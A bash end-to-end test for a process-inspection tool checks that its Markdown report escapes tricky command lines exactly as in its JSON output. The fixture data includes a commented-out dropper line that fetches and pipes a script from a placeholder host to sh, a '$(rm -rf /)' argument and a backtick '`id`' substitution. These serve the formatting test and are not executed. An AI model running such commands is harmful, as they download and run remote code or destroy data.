#!/usr/bin/env bash
# The Markdown report quotes what ran exactly: a real chain whose command
# lines hold pipes, backticks (also at the start of a word and in runs),
# backslashes, a newline, a tab, a bidi override and bytes that are not
# UTF-8. Every command line of the chain table reads back byte-equal to the
# JSON's once the documented escaping is undone (tests/e2e/md-roundtrip.py),
# and the table keeps its columns.
. "$(dirname "$0")/lib.sh"

# the parent: a shell whose script is a dropper's pipe and more
script=$'(exec -a \'`id` | ``x`` \\\\srv\\share\' sleep 300) | cat # wget -q -O - http://example.invalid/d.sh | sh\nsecond\tline \\ end\\'
bash -c "$script" $'\xe2\x80\xaebidi' $'\xff\xfe not utf-8' '$(rm -rf /)' &
shell=$!
MT_CHILDREN+=("$shell")
target=
for _ in $(seq 1 100); do
	target=$(pgrep -P "$shell" -x sleep || true)
	[ -n "$target" ] && break
	sleep 0.05
done
[ -n "$target" ] || die "the target sleep did not start"
MT_CHILDREN+=("$target")

mt --json --no-engine --no-hash "$target" >"$MT_TMP/t.json" || fail "--json: exit status $?"
mt --format=markdown --no-engine --no-hash "$target" >"$MT_TMP/t.md" || fail "markdown: exit status $?"
validate "$MT_SCHEMA" "$MT_TMP/t.json"
check "the target's argv[0] as it was set" '.chain[0].argv[0] == "`id` | ``x`` \\\\srv\\share"' "$MT_TMP/t.json"
jq -e --arg s "$script" ".chain[1].pid == $shell and .chain[1].argv[2] == \$s" "$MT_TMP/t.json" \
	>/dev/null && echo "ok: the shell is the parent, its script exact in the JSON" ||
	fail "the shell is not the parent with its script"

if /usr/bin/python3 "$MT_SOURCE_DIR/tests/e2e/md-roundtrip.py" "$MT_TMP/t.md" "$MT_TMP/t.json"; then
	echo "ok: every command line reads back byte-equal to the JSON's"
else
	fail "a command line of the Markdown report differs from the JSON's"
fi

# what a reader sees: the pipe kept (escaped for the table), no slash
grep -qF 'example.invalid/d.sh \| sh\nsecond\tline \\ end\\' "$MT_TMP/t.md" ||
	fail "the dropper's pipe is not quoted as it ran: $(grep -F 'd.sh' "$MT_TMP/t.md")"
if grep -qF 'd.sh / sh' "$MT_TMP/t.md"; then
	fail "the pipe became a slash"
fi
# a cell starting with a backtick, holding a run of two: a fence of three, padded
grep -qF '| ``` `id` \| ``x`` \\\\srv\\share 300 ``` |' "$MT_TMP/t.md" ||
	fail "the target's command line is not one padded code span: $(grep -F 'srv' "$MT_TMP/t.md")"
if LC_ALL=C grep -q $'[\x01-\x09\x0b-\x1f\x7f]' "$MT_TMP/t.md"; then
	fail "raw control bytes in the Markdown report"
fi
finish
